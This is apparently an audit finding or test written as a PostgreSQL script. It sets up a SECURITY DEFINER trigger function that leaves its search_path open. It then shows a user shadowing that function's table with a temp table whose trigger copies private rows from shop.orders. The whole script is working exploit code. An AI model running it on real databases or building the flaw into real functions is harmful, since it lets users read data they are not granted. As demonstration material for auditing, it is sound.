-- finding: definer-search-path function shop.count_up()
SET ROLE shop_owner;
CREATE TABLE shop.counts (n int); INSERT INTO shop.counts VALUES (0);
CREATE FUNCTION shop.count_up() RETURNS trigger SECURITY DEFINER LANGUAGE plpgsql
  AS $$ BEGIN UPDATE counts SET n = n + 1; RETURN NEW; END $$;
CREATE TRIGGER counting AFTER INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION shop.count_up();
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
CREATE TEMPORARY TABLE counts (n int); INSERT INTO counts VALUES (0);
GRANT ALL ON pg_temp.taken, pg_temp.counts TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN NEW; END $$;
CREATE TRIGGER take BEFORE UPDATE ON counts FOR EACH ROW EXECUTE FUNCTION pg_temp.take();
SET search_path = shop;
INSERT INTO shop.orders (item) VALUES ('bait');
SELECT item FROM pg_temp.taken WHERE item = 'secret';
